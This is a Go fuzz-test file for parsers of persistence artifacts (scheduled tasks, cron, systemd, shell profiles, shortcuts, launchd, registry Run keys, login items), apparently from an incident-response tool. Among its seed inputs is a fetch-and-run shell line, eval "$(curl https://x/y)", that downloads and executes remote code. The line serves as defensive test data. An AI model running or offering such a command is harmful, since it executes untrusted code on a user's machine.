package persist

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/cascade-ir/cascade/internal/collect/software/windows"
	"github.com/cascade-ir/cascade/internal/snapshot"
	"github.com/cascade-ir/cascade/internal/testutil"
)

// Each parser of untrusted input has a fuzz target: it must not panic,
// must stay within its bounds, and what it returns must be well formed.

func FuzzTaskXML(f *testing.F) {
	f.Add([]byte(`<?xml version="1.0" encoding="UTF-16"?><Task><RegistrationInfo><Date>2022-04-12T09:30:00</Date></RegistrationInfo><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>a.exe</Command><Arguments>-x</Arguments></Exec></Actions></Task>`))
	f.Add([]byte("\xff\xfe<\x00T\x00a\x00s\x00k\x00/\x00>\x00"))
	f.Add([]byte(`<!DOCTYPE a [<!ENTITY b "c">]><Task>&b;</Task>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		as, err := taskEntries(data)
		if err != nil {
			return
		}
		if len(as) > 64 {
			t.Fatalf("%d entries from one task", len(as))
		}
		for _, a := range as {
			checkEntry(t, a)
		}
	})
}

func FuzzCronLine(f *testing.F) {
	for _, s := range []string{"*/5 * * * * root /bin/x", "@reboot /a", "A=b", "1-5/2,7 * * jan mon-fri u 'q' %x"} {
		f.Add(s, true)
		f.Add(s, false)
	}
	f.Fuzz(func(t *testing.T, line string, system bool) {
		a, ok, _ := cronLine(line, system)
		if ok && a.Command == "" {
			t.Fatalf("entry without a command from %q", line)
		}
	})
}

func FuzzUnit(f *testing.F) {
	f.Add([]byte("[Service]\nExecStart=/a b\\\n c\n[Install]\nWantedBy=x\n"))
	f.Add([]byte("[Socket]\nExecStartPre=-@/x\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		u, _ := parseUnit(data)
		for _, e := range u.execs {
			if e.cmd == "" || len(e.cmd) > 2*maxLineBytes {
				t.Fatalf("exec line %q", e.cmd)
			}
			execCommand(e.cmd)
		}
	})
}

func FuzzProfileLine(f *testing.F) {
	for _, s := range []string{"nohup /a &", "eval \"$(curl https://x/y)\"", "case x in", "A=1 B=2 exec \"/q r\" s", `\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		prog, _, ok := profileLine(line)
		if ok && prog == "" && !urlRE.MatchString(line) {
			t.Fatalf("empty program from %q", line)
		}
		splitWindows(line)
		winRel(line, "u")
	})
}

func FuzzLnk(f *testing.F) {
	if b, err := os.ReadFile(filepath.Join("testdata", "updater.lnk")); err == nil {
		f.Add(b)
	}
	f.Add(append([]byte{0x4C, 0, 0, 0}, append(lnkCLSID, make([]byte, 60)...)...))
	f.Fuzz(func(t *testing.T, data []byte) {
		l, err := parseLnk(data)
		if err != nil {
			return
		}
		for _, s := range []string{l.Target, l.Args, l.Relative, l.WorkDir} {
			if len(s) > 4*len(data)+8 {
				t.Fatalf("string longer than its input: %d > %d", len(s), len(data))
			}
		}
	})
}

func FuzzLaunchd(f *testing.F) {
	f.Add([]byte(`<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>a</string><key>ProgramArguments</key><array><string>/a</string><string>b</string></array><key>KeepAlive</key><dict/></dict></plist>`))
	f.Add([]byte("bplist00"))
	f.Fuzz(func(t *testing.T, data []byte) {
		a, err := launchdEntry(data)
		if err != nil {
			return
		}
		checkEntry(t, a)
	})
}

// FuzzRegistryHive feeds hostile hives to the services and Run-key
// readers; the hive parser is the Windows collector's.
func FuzzRegistryHive(f *testing.F) {
	tmpl, err := os.ReadFile(filepath.Join(testutil.RepoRoot(f), "internal/collect/software/windows/testdata/minimal.hive"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(tmpl)
	f.Fuzz(func(t *testing.T, data []byte) {
		windows.ParseHive(data, func(root *windows.Key) error {
			add := func(a snapshot.Artifact) { checkEntry(t, a) }
			services(windows.AsRegKey(root), add)
			runKeys(windows.AsRegKey(root), "registry:HKLM\\SOFTWARE\\", "", add)
			runKeys(windows.AsRegKey(root), "registry:HKU\\u\\", "u", add)
			return nil
		})
	})
}

func checkEntry(t *testing.T, a snapshot.Artifact) {
	t.Helper()
	if a.Kind != snapshot.ArtifactPersistence || a.Mechanism == "" || a.Command == "" {
		t.Fatalf("malformed entry %+v", a)
	}
	if len(a.Command) > maxLineBytes+8 || len(a.Args) > maxLineBytes+8 || len(a.Trigger) > maxLineBytes {
		t.Fatalf("unbounded field in %+v", a)
	}
}

// FuzzLoginItems feeds hostile bookmark data, alias data and keyed
// archives to the login item readers.
func FuzzLoginItems(f *testing.F) {
	for _, name := range []string{"backgrounditems.btm", "com.apple.loginitems.plist", "BackgroundItems-v9.btm"} {
		b, err := os.ReadFile(filepath.Join("testdata", "loginitems", name))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		items, _ := btmLoginItems(data)
		more, _ := legacyLoginItems(data)
		if len(items) > maxLoginItems || len(more) > maxLoginItems {
			t.Fatalf("%d and %d items, over the bound", len(items), len(more))
		}
		if bm, err := parseBookmark(data); err == nil && len(bm.Path) > 2*len(data)+1 {
			t.Fatalf("path longer than its input")
		}
		if p, err := parseAlias(data); err == nil && len(p) > 2*len(data)+2 {
			t.Fatalf("path longer than its input")
		}
	})
}
